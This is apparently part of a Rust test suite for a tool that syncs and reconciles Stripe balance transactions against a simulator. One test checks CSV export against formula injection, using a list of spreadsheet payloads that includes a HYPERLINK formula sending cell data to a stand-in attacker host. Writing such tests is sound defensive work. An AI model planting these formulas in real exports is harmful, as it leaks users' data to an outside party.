    let connect = line("usd", "connect_reserved");
    assert_eq!(
        (connect.in_copy, connect.available, connect.difference),
        (None, Some(4_200), None)
    );
    assert_eq!(
        line("eur", "refund_and_dispute_prefunding").difference,
        Some(0)
    );
    let payments = line("usd", "payments");
    assert_eq!(payments.difference, Some(0));
    assert_eq!(payments.label, "Payments balance");
    // Each part reads in words.
    assert_eq!(reserve.label, "Held in reserve by Stripe");

    // A real difference in the payments balance still shows.
    sim.set_balance_skew(ACCOUNT, "usd", 99);
    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
        .await
        .unwrap();
    let rec = store.reconcile(&balance, at).unwrap();
    assert!(!rec.matches);
    let differing: Vec<_> = rec
        .lines
        .iter()
        .filter(|l| l.difference.is_some_and(|d| d != 0))
        .collect();
    assert_eq!(differing.len(), 1);
    assert_eq!(
        (differing[0].part.as_str(), differing[0].difference),
        ("payments", Some(99))
    );
}

/// Issue 17.12: before a first sync has finished, nothing is called a difference.
#[tokio::test]
async fn before_the_first_sync_nothing_is_a_difference() {
    let sim = sim_with(500).await;
    let dir = tempfile::tempdir().unwrap();
    let store = BalanceStore::open(&dir.path().join("new.sqlite3")).unwrap();
    let (balance, at) = fetch_balance(&client(&sim.base_url()), &auth())
        .await
        .unwrap();
    let rec = store.reconcile(&balance, at).unwrap();
    assert!(!rec.synced && !rec.matches);
    assert!(!rec.lines.is_empty());
    assert!(rec.lines.iter().all(|l| l.difference.is_none()), "{rec:#?}");
}

/// Issue 17.4: the period summary and the totals agree for the same
/// filters, and with an independent sum: charges' gross and fees are
/// visible, not only their net.
#[tokio::test]
async fn the_period_summary_and_the_totals_agree_for_the_same_filters() {
    let sim = sim_with(4_000).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("s.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let now = sim.now();
    let (from, to) = (now - 120 * 86_400, now - 90 * 86_400);
    let filter = Filter {
        currencies: vec!["eur".into()],
        types: vec!["charge".into()],
        created: TimeRange {
            from: Some(from),
            to: Some(to),
        },
        ..Filter::default()
    };
    let truth = sim.balance_transactions(ACCOUNT);
    let want = sums(truth.iter().filter(|t| {
        t["currency"] == "eur" && t["type"] == "charge" && (from..to).contains(&i(t, "created"))
    }));
    let (count, amount, fee, net) = want["eur"];
    assert!(count > 0 && fee > 0);
    assert_eq!(
        store_sums(&store, &filter)["eur"],
        (count, amount, fee, net)
    );
    let totals = store.totals(&filter).unwrap();
    let summary = store.period_summary(&filter).unwrap();
    assert_eq!(summary.len(), 1, "the summary uses the Currency filter too");
    let eur = &summary[0];
    let categories: Vec<&str> = eur.activity.iter().map(|a| a.category.as_str()).collect();
    assert_eq!(
        categories,
        ["charge"],
        "the summary uses the Type filter too"
    );
    let charges = &eur.activity[0];
    assert_eq!(charges.label, "Charges");
    // Gross, Stripe's fees and net, each as the totals show them and as summed here.
    let got = (
        charges.sums.count,
        charges.sums.gross,
        charges.sums.fee,
        charges.sums.net,
    );
    assert_eq!(got, (count, amount, fee, net));
    let t = &totals[0];
    assert_eq!((t.count, t.amount, t.fee, t.net), got);
    assert_eq!(eur.total, charges.sums);
    // A Type filter: no starting or ending balance (they would not be balances).
    assert_eq!((eur.starting_balance, eur.ending_balance), (None, None));

    // Dates only: every category, agreeing with the totals, and the
    // balance before and after the period.
    let whole = Filter {
        currencies: vec!["eur".into()],
        created: filter.created,
        ..Filter::default()
    };
    let summary = store.period_summary(&whole).unwrap();
    let eur = &summary[0];
    let t = &store.totals(&whole).unwrap()[0];
    assert_eq!(
        (
            eur.total.count,
            eur.total.gross,
            eur.total.fee,
            eur.total.net
        ),
        (t.count, t.amount, t.fee, t.net)
    );
    assert!(eur.activity.len() > 1);
    for a in &eur.activity {
        let want = sums(truth.iter().filter(|t| {
            t["currency"] == "eur"
                && t["reporting_category"] == a.category.as_str()
                && (from..to).contains(&i(t, "created"))
        }))["eur"];
        assert_eq!(
            (a.sums.count, a.sums.gross, a.sums.fee, a.sums.net),
            want,
            "{}",
            a.category
        );
    }
    let before: i64 = truth
        .iter()
        .filter(|t| t["currency"] == "eur" && i(t, "created") < from)
        .map(|t| i(t, "net"))
        .sum();
    assert_eq!(eur.starting_balance, Some(before));
    assert_eq!(eur.ending_balance, Some(before + eur.total.net));
}

/// Issue 17.8: the filters offer what the copy holds, in words.
#[tokio::test]
async fn the_filters_offer_what_the_copy_holds_in_words() {
    let sim = sim_with(1_000).await;
    // Some still pending whatever the hour: the seeded history's newest day
    // may hold none just after midnight UTC.
    sim.add_recent_balance_transactions(ACCOUNT, 5, Duration::from_secs(3600), 7);
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("w.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let choices = store.filter_choices().unwrap();
    let truth = sim.balance_transactions(ACCOUNT);
    let codes = |k: &str| -> BTreeSet<String> {
        truth
            .iter()
            .map(|t| t[k].as_str().unwrap().to_string())
            .collect()
    };
    let values = |c: &[desk_core::balances::Choice]| -> BTreeSet<String> {
        c.iter().map(|c| c.value.clone()).collect()
    };
    assert_eq!(values(&choices.types), codes("type"));
    assert_eq!(
        values(&choices.reporting_categories),
        codes("reporting_category")
    );
    assert_eq!(values(&choices.statuses), codes("status"));
    assert_eq!(
        choices.currencies.iter().cloned().collect::<BTreeSet<_>>(),
        codes("currency")
    );
    let label = |c: &[desk_core::balances::Choice], v: &str| {
        c.iter().find(|c| c.value == v).unwrap().label.clone()
    };
    assert_eq!(label(&choices.types, "stripe_fee"), "Stripe fee");
    assert_eq!(label(&choices.reporting_categories, "charge"), "Charges");
    assert_eq!(label(&choices.statuses, "pending"), "Pending");
    for c in choices.types.iter().chain(&choices.reporting_categories) {
        assert!(!c.label.contains('_'), "{c:?}");
    }
}

/// Issue 16.3: a description that would run as a spreadsheet formula is
/// written as text; amounts stay numbers.
#[tokio::test]
async fn csv_text_cells_never_run_as_formulas() {
    let sim = sim_with(0).await;
    let payloads = [
        "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"Click\")",
        "+1+2",
        "-2+3",
        "@SUM(1,2)",
        "\tTabbed",
        "\rReturned",
        "Plain text",
    ];
    for (k, description) in payloads.iter().enumerate() {
        sim.add_charge(
            ACCOUNT,
            Charge {
                currency: "usd".into(),
                amount: 1_000 + k as i64,
                created: sim.now() - 100 - k as i64,
                description: description.to_string(),
            },
        );
    }
    // A refund: a negative amount, which must stay a number.
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("c.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let out = dir.path().join("formulas.csv");
    export_csv(
        &store,
        &Filter::default(),
        Sort::newest_first(),
        &out,
        &Cancel::new(),
        |_| {},
    )
    .unwrap();
    let text = std::fs::read_to_string(&out).unwrap();
    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let mut seen = BTreeSet::new();
    for record in reader.records() {
        let r = record.unwrap();
        let description = &r[col("description")];
        if description == "Plain text" {
            seen.insert(description.to_string());
            continue;
        }
        assert!(
            description.starts_with('\''),
            "{description:?} would run as a formula"
        );
        seen.insert(description[1..].to_string());
        // Numbers stay numbers: no quote before an amount.
        for money in ["amount", "fee", "net"] {
            assert!(
                r[col(money)].parse::<Decimal>().is_ok(),
                "{}",
                &r[col(money)]
            );
        }
    }
    assert_eq!(seen.len(), payloads.len());
}

/// Issue 15.5: a range is split after its first page too, so when the data
/// is uneven (most of it recent) the idle workers share the busy range.
#[tokio::test]
async fn busy_ranges_are_split_after_their_first_page() {
    let sim = Simulator::start(SimConfig::bundled()).await.unwrap();
    sim.add_account(ACCOUNT, "Growing Shop");
    sim.add_key(KEY, ACCOUNT, KeyAccess::Full);
    sim.seed_growing_balance_history(ACCOUNT, 6_000, 5);
    sim.set_latency(Duration::from_millis(20));
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("g.sqlite3")).unwrap());
    let options = SyncOptions {
        workers: 4,
        link_payouts: false,
        ..fast_options()
    };
    sync(
        &client(&sim.base_url()),
        &auth(),
        store.clone(),
        &options,
        &Cancel::new(),
        &|_| {},
    )
    .await
    .unwrap();
    assert_identical(&sim, &store);
    // Each range is fetched from its own lower bound (`created[gte]`).
    let ranges: BTreeSet<String> = sim
        .requests()
        .iter()
        .filter(|r| r.path == "/v1/balance_transactions")
        .filter_map(|r| {
            r.query
                .split('&')
                .find(|kv| kv.starts_with("created%5Bgte%5D=") || kv.starts_with("created[gte]="))
                .map(str::to_string)
        })
        .collect();
    assert!(
        ranges.len() > 8,
        "{} ranges for 4 workers: the busy range was never split",
        ranges.len()
    );
}

/// Issue 15.5: an account whose record leaves `created` out: the plan starts
/// at its oldest transaction, found by a few probes, not in 1970.
#[tokio::test]
async fn an_account_without_created_is_planned_from_its_oldest_transaction() {
    let sim = sim_with(3_000).await;
    sim.omit_account_created(ACCOUNT);
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("n.sqlite3")).unwrap());
    let outcome = sync_all(&sim, &store).await;
    assert!(outcome.completed);
    assert_identical(&sim, &store);
    let oldest = sim
        .balance_transactions(ACCOUNT)
        .iter()
        .map(|t| i(t, "created"))
        .min()
        .unwrap();
    let lows: Vec<i64> = sim
        .requests()
        .iter()
        .filter(|r| r.path == "/v1/balance_transactions")
        .filter_map(|r| {
            r.query.split('&').find_map(|kv| {
                kv.strip_prefix("created%5Bgte%5D=")
                    .or_else(|| kv.strip_prefix("created[gte]="))
                    .and_then(|v| v.parse().ok())
            })
        })
        .collect();
    let lowest = *lows.iter().min().unwrap();
    // Nothing missed, and no earlier than twice the oldest's age: the plan
    // needs no more (a range planned where nothing is costs one request).
    let age = sim.now() - oldest;
    assert!(
        lowest <= oldest && sim.now() - lowest <= 2 * age,
        "the plan starts at {lowest}, the oldest transaction is at {oldest}"
    );
    // A few probes ("the newest before t", one transaction each), not a walk.
    let probes = sim
        .requests()
        .iter()
        .filter(|r| r.path == "/v1/balance_transactions" && r.query.contains("limit=1&"))
        .count();
    assert!((2..=16).contains(&probes), "{probes} probes");
}

/// Issue 16.9: the payout detail sends the window what it shows, not every row.
#[tokio::test]
async fn a_payout_detail_is_bounded() {
    let sim = sim_with(3_000).await;
    let dir = tempfile::tempdir().unwrap();
    let store = Arc::new(BalanceStore::open(&dir.path().join("p.sqlite3")).unwrap());
    sync_all(&sim, &store).await;
    let (po, settled) = sim
        .balance_transactions(ACCOUNT)
        .iter()
        .filter(|t| t["type"] == "payout")
        .map(|t| {
            let po = t["source"].as_str().unwrap().to_string();
            let n = sim.payout_settled(ACCOUNT, &po).len();
            (po, n)
        })
        .max_by_key(|p| p.1)
        .unwrap();
    assert!(settled > 100);
    let d = store.payout_detail(&po).unwrap();
    assert!(d.matches);
    assert_eq!(d.count as usize, settled);
    assert!(
        d.newest.len() <= PAYOUT_PREVIEW as usize,
        "{} rows sent to show a count",
        d.newest.len()
    );
    // The newest of what it settled.
    let mut ids = sim.payout_settled(ACCOUNT, &po);
    ids.truncate(PAYOUT_PREVIEW as usize);
    let shown: Vec<String> = d.newest.iter().map(|r| r.id.clone()).collect();
    assert_eq!(shown, ids);
}
